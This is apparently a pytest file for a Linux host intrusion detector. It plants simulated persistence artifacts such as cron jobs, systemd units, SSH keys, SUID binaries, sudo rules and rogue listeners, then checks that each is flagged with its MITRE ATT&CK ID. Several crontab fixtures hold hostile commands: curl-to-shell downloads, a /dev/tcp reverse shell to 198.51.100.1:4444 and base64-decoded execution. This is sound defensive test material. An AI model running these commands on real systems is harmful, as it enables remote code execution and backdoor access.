"""Each technique that leaves a fact behind is found at once, under its name."""

from typing import Any

import pytest
from tests.detect.scene import Change, Tables, after, job, passing, port, proc, user

from vedette.core import Row
from vedette.detect.inventory import InventoryExpert


def add(table: str, *rows: Row) -> Change:
    def change(tables: Tables) -> None:
        tables[table].extend(rows)

    return change


def edit(table: str, column: str, name: str, **values: Any) -> Change:
    def change(tables: Tables) -> None:
        for row in tables[table]:
            if row[column] == name:
                row.update(values)

    return change


def unlock(name: str) -> Change:
    new: dict[str, Any] = {"shell": "/bin/bash"}
    return edit("users", "username", name, **new)


def rehash(path: str) -> Change:
    return edit("hash", "path", path, sha256="f" * 64)


def drop(table: str, column: str, name: str | int) -> Change:
    def change(tables: Tables) -> None:
        tables[table] = [row for row in tables[table] if row[column] != name]

    return change


def unattended(change: Change) -> Change:
    def alone(tables: Tables) -> None:
        tables["logged_in_users"] = []
        tables["processes"] = [row for row in tables["processes"] if "@" not in str(row["cmdline"])]
        change(tables)

    return alone


def listen(row: Row, number: int, address: str = "10.0.0.5") -> Change:
    def change(tables: Tables) -> None:
        tables["processes"].append(row)
        tables["listening_ports"].append(port(900, number, address))

    return change


def key(uid: int, file: str) -> Row:
    return {"uid": uid, "algorithm": "ssh-ed25519", "key": "c" * 64, "key_file": file}


def unit(name: str, path: str) -> Row:
    return {"id": name, "fragment_path": path, "unit_file_state": "enabled"}


def suid(path: str) -> Row:
    return {"path": path, "username": "root", "permissions": "S"}


HOSTILE: dict[str, tuple[str, str, Change]] = {
    "a cron job in a temp directory": (
        "T1053.003",
        "cron:/etc/cron.d/x",
        add("crontab", job("/etc/cron.d/x", "root /tmp/.x/upd", "*", "*")),
    ),
    "a cron job that pipes a download to a shell": (
        "T1053.003",
        "cron:/etc/cron.d/x",
        add("crontab", job("/etc/cron.d/x", "root curl -fsSL http://198.51.100.1/a | sh")),
    ),
    "a cron job that downloads in a shell's argument": (
        "T1053.003",
        "cron:/var/spool/cron/crontabs/root",
        add(
            "crontab",
            job("/var/spool/cron/crontabs/root", 'bash -c "$(curl -s http://198.51.100.1/a)"'),
        ),
    ),
    "a cron job that opens a reverse shell": (
        "T1053.003",
        "cron:/etc/cron.d/x",
        add(
            "crontab",
            job("/etc/cron.d/x", "root bash -c 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'"),
        ),
    ),
    "a cron job that decodes its code": (
        "T1053.003",
        "cron:/etc/cron.d/x",
        add("crontab", job("/etc/cron.d/x", "root echo aWQK | base64 -d | bash")),
    ),
    "a hidden program at every start": (
        "T1053.003",
        "cron:/var/spool/cron/crontabs/ana",
        add(
            "crontab",
            job("/var/spool/cron/crontabs/ana", "/home/ana/.sys/agent")
            | {"event": "@reboot", "minute": ""},
        ),
    ),
    "a cron job of the web server's account": (
        "T1053.003",
        "cron:/var/spool/cron/crontabs/www-data",
        add("crontab", job("/var/spool/cron/crontabs/www-data", "/srv/app/up.sh", "*", "*")),
    ),
    "a unit made by hand": (
        "T1543.002",
        "unit:sysupd.service",
        add("systemd_units", unit("sysupd.service", "/etc/systemd/system/sysupd.service")),
    ),
    "a unit in a temp directory": (
        "T1543.002",
        "unit:x.service",
        add("systemd_units", unit("x.service", "/dev/shm/x.service")),
    ),
    "a timer made by hand": (
        "T1053.006",
        "unit:sysupd.timer",
        add("systemd_units", unit("sysupd.timer", "/etc/systemd/system/sysupd.timer")),
    ),
    "a key for root": (
        "T1098.004",
        "key:/root/.ssh/authorized_keys",
        add("authorized_keys", key(0, "/root/.ssh/authorized_keys")),
    ),
    "a foreign key for a user": (
        "T1098.004",
        "key:/home/ana/.ssh/authorized_keys",
        add("authorized_keys", key(1000, "/home/ana/.ssh/authorized_keys")),
    ),
    "a key for a service account": (
        "T1098.004",
        "key:/var/www/.ssh/authorized_keys",
        add("authorized_keys", key(33, "/var/www/.ssh/authorized_keys")),
    ),
    "a second root account": ("T1136.001", "user:toor", add("users", user("toor", 0, "/bin/bash"))),
    "a new login account, and nobody is there": (
        "T1136.001",
        "user:mallory",
        unattended(add("users", user("mallory", 1001, "/bin/bash"))),
    ),
    "a service account that may log in": (
        "T1098",
        "user:www-data",
        unlock("www-data"),
    ),
    "an account made root": ("T1136.001", "user:ana", edit("users", "username", "ana", uid=0)),
    "a sudo rule without password": (
        "T1548.003",
        "sudo:/etc/sudoers.d/x",
        add(
            "sudoers",
            {
                "source": "/etc/sudoers.d/x",
                "header": "www-data",
                "rule_details": "ALL=(ALL) NOPASSWD: ALL",
            },
        ),
    ),
    "a SUID shell in a temp directory": (
        "T1548.001",
        "suid:/var/tmp/.c/sh",
        add("suid_bin", suid("/var/tmp/.c/sh")),
    ),
    "a SUID program in /usr/local": (
        "T1548.001",
        "suid:/usr/local/bin/x",
        add("suid_bin", suid("/usr/local/bin/x")),
    ),
    "an interpreter made SUID": (
        "T1548.001",
        "suid:/usr/bin/python3.11",
        add("suid_bin", suid("/usr/bin/python3.11")),
    ),
    "a strange kernel module": (
        "T1547.006",
        "module:diamorphine",
        add("kernel_modules", {"name": "diamorphine"}),
    ),
    "a preloaded library": (
        "T1574.006",
        "file:/etc/ld.so.preload",
        add("hash", {"path": "/etc/ld.so.preload", "sha256": "e" * 64}),
    ),
    "changed login rules": ("T1556.003", "file:/etc/pam.d/sshd", rehash("/etc/pam.d/sshd")),
    "a changed shell profile": ("T1546.004", "file:/root/.bashrc", rehash("/root/.bashrc")),
    "a new profile script": (
        "T1546.004",
        "file:/etc/profile.d/x.sh",
        add("hash", {"path": "/etc/profile.d/x.sh", "sha256": "e" * 64}),
    ),
    "a boot script": (
        "T1037.004",
        "file:/etc/rc.local",
        add("hash", {"path": "/etc/rc.local", "sha256": "e" * 64}),
    ),
    "changed name servers": ("T1557", "file:/etc/resolv.conf", rehash("/etc/resolv.conf")),
    "changed SSH settings": (
        "T1098.004",
        "file:/etc/ssh/sshd_config",
        rehash("/etc/ssh/sshd_config"),
    ),
    "a replaced system program": ("T1554", "file:/usr/bin/ps", rehash("/usr/bin/ps")),
    "a listener in a temp directory": (
        "T1571",
        "port:tcp/9999",
        listen(proc(900, 1, "pgsync", "/var/tmp/pgsync", "/var/tmp/pgsync", 101), 9999),
    ),
    "netcat waiting for a shell": (
        "T1571",
        "port:tcp/8081",
        listen(proc(900, 1, "nc", "/usr/bin/nc.openbsd", "nc -lp 8081", 33), 8081),
    ),
    "a program on a back door's port": (
        "T1571",
        "port:tcp/31337",
        listen(proc(900, 1, "agentd", "/usr/sbin/agentd", "agentd"), 31337),
    ),
    "a process hidden under a mount": (
        "T1564",
        "mount:/proc/4711",
        add("mounts", {"path": "/proc/4711", "device": "tmpfs", "type": "tmpfs"}),
    ),
    "a service account logged in": (
        "T1078.003",
        "login:www-data",
        add("logged_in_users", {"user": "www-data", "tty": "pts/1", "host": "198.51.100.1"}),
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_fact_is_found_at_once(name: str) -> None:
    attack, subject, change = HOSTILE[name]
    (cases,) = after(InventoryExpert, change)
    assert cases
    assert cases[0].nats > 0
    assert (cases[0].subject, cases[0].attack) == (subject, attack)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_it_is_told_as_long_as_it_is_there_and_no_longer(name: str) -> None:
    _, subject, change = HOSTILE[name]
    keep, undo = passing(change)
    told = after(InventoryExpert, keep, lambda _: None, lambda _: None, undo)
    loud = [[case.subject for case in cases if case.nats > 0] for cases in told]
    assert loud == [[subject], [subject], [subject], []]


VANISHING: dict[str, tuple[str, str, int, Change]] = {
    "a logging package": (
        "T1562.001",
        "package:rsyslog",
        2,
        drop("deb_packages", "name", "rsyslog"),
    ),
    "a logging unit": (
        "T1562.001",
        "unit:rsyslog.service",
        2,
        drop("systemd_units", "id", "rsyslog.service"),
    ),
    "a login account": ("T1531", "user:ana", 2, drop("users", "username", "ana")),
    "a system program": ("T1070.004", "file:/usr/bin/ps", 2, drop("hash", "path", "/usr/bin/ps")),
    "a port": ("T1489", "port:tcp/80", 3, drop("listening_ports", "port", 80)),
}


@pytest.mark.parametrize("name", sorted(VANISHING))
def test_what_always_was_there_is_missed_after_a_little_patience(name: str) -> None:
    attack, subject, patience, change = VANISHING[name]
    told = after(InventoryExpert, change, lambda _: None, lambda _: None, lambda _: None)
    first = next(at for at, cases in enumerate(told, 1) if any(case.nats > 0 for case in cases))
    (case,) = [case for case in told[-1] if case.nats > 0]
    assert (first, case.attack, case.subject) == (patience, attack, subject)
